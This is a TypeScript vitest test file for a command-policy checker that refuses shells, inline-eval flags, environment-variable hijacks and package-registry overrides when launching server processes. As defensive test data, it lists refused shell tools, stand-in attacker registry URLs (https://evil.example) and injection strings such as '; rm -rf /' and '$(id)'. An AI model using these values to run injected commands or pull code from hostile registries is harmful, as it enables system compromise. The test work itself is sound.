import { chmodSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { checkCommand } from './command-policy.ts'

let directory: string
beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), 'gatehouse-path-'))
})
afterAll(() => rmSync(directory, { recursive: true }))

function objection(
  command: string,
  args: readonly string[] = [],
  env: Record<string, string> = {},
): string | undefined {
  try {
    checkCommand({ command, args, env }, `${directory}:relative:/usr/bin:/bin`)
    return undefined
  } catch (error) {
    expect(error).toMatchObject({ code: 'upstream.command_refused' })
    return (error as { why: string }).why
  }
}

describe('commands', () => {
  it.each(['npx', 'node', 'uvx', 'python3', 'my-server', '/opt/servers/mine', '/usr/bin/env-server'])(
    'takes %s',
    command => {
      expect(objection(command)).toBeUndefined()
    },
  )

  it.each([
    'sh',
    'bash',
    'dash',
    'zsh',
    'env',
    'xargs',
    'sudo',
    'su',
    'busybox',
    'cmd',
    'CMD.EXE',
    'powershell.exe',
    'pwsh',
    '/bin/sh',
    '/usr/bin/env',
    '/bin/../bin/bash',
    'C:\\Windows\\System32\\cmd.exe',
  ])('refuses %s', command => {
    expect(objection(command)).toBeDefined()
  })

  it.each(['./server', '../server', 'bin/server', '.\\server', '-x', ' npx', 'npx ', 'np\nx', 'np\0x'])(
    'refuses %j',
    command => {
      expect(objection(command)).toBeDefined()
    },
  )

  it('looks behind links, by path and by name', () => {
    const link = join(directory, 'innocent')
    symlinkSync('/bin/sh', link)
    symlinkSync(link, join(directory, 'harmless'))
    for (const command of [link, 'innocent', 'harmless']) expect(objection(command)).toContain('leads to')
  })

  it('takes a program of its own on the PATH', () => {
    const file = join(directory, 'real-server')
    writeFileSync(file, '')
    chmodSync(file, 0o755)
    expect(objection('real-server')).toBeUndefined()
  })
})

describe('arguments', () => {
  it.each<[string, string[]]>([
    ['node', ['-e', 'code']],
    ['node', ['--eval=code']],
    ['node', ['-p', 'code']],
    ['node', ['--print', 'code']],
    ['node', ['-pe', 'code']],
    ['node', ['--no-warnings', '-e', 'code']],
    ['node', ['--title', 'x', '-e', 'code']],
    ['node', ['--import', 'data:text/javascript,code', 'server.js']],
    ['node', ['-r', './hook.js', 'server.js']],
    ['node', ['-']],
    ['/usr/local/bin/node24', ['-e', 'code']],
    ['NODE.EXE', ['-e', 'code']],
    ['deno', ['eval', 'code']],
    ['bun', ['-e', 'code']],
    ['python', ['-c', 'code']],
    ['python3.12', ['-Ic', 'code']],
    ['python3', ['-W', 'ignore', '-c', 'code']],
    ['perl', ['-e', 'code']],
    ['ruby', ['-e', 'code']],
    ['npx', ['-c', 'code']],
    ['npx', ['-y', '--call', 'code']],
    ['npx', ['--call=code']],
    ['npx', ['--node-options=--require=x', 'pkg']],
    ['npx', ['-y', '--registry', 'https://evil.example', 'pkg']],
    ['npx', ['--@scope:registry=https://evil.example', 'pkg']],
    ['npm', ['exec', '--registry=https://evil.example', 'pkg']],
    ['uvx', ['--index-url', 'https://evil.example', 'pkg']],
    ['uvx', ['--from', 'git+https://evil.example/x', 'pkg']],
  ])('refuses %s %j', (command, args) => {
    expect(objection(command, args)).toBeDefined()
  })

  it.each<[string, string[]]>([
    ['node', ['server.js', '-e', 'production', '-p', '3000', '-c', 'x']],
    ['node', ['--no-warnings', 'server.js', '-p', '3000']],
    ['node', ['--max-old-space-size=512', 'server.js', '--eval']],
    ['npx', ['-y', '@modelcontextprotocol/server-filesystem@2026.8.31', '/srv', '-c', '--registry']],
    ['npx', ['-p', 'pkg', 'bin', '-c', 'config.json']],
    ['npx', ['--', 'pkg', '-c', 'config.json']],
    ['uvx', ['--from', 'pkg', 'bin', '-i', 'file']],
    ['python', ['-m', 'server', '-c', 'config.json']],
    ['python', ['-Im', 'server', '-c', 'config.json']],
    ['python', ['-u', 'server.py', '-c', 'config.json']],
    ['my-server', ['-c', 'config', '-e', 'x', '; rm -rf /', '$(id)', '`id`', '']],
  ])('takes %s %j', (command, args) => {
    expect(objection(command, args)).toBeUndefined()
  })

  it.each(['a\nb', 'a\0b', 'a\rb', 'a\x1bb'])('refuses the argument %j', argument => {
    expect(objection('my-server', [argument])).toContain('control character')
  })

  it('refuses references, which would be seen by others in the list of processes', () => {
    expect(objection('my-server', [`--key=\${env:KEY}`])).toContain('env only')
  })
})

describe('environment', () => {
  it.each([
    'NODE_OPTIONS',
    'NODE_PATH',
    'LD_PRELOAD',
    'LD_LIBRARY_PATH',
    'DYLD_INSERT_LIBRARIES',
    'PYTHONPATH',
    'PYTHONSTARTUP',
    'PATH',
    'Path',
    'npm_config_registry',
    'NPM_CONFIG_REGISTRY',
    'GIT_SSH_COMMAND',
    'BASH_ENV',
    'JAVA_TOOL_OPTIONS',
    'UV_INDEX_URL',
  ])('refuses %s', name => {
    expect(objection('npx', [], { [name]: 'x' })).toContain(name)
  })

  it.each(['LOG_LEVEL', 'API_KEY', 'NODE_ENV', 'DATABASE_URL', 'HOME_PATH'])('takes %s', name => {
    expect(objection('npx', [], { [name]: 'x' })).toBeUndefined()
  })
})
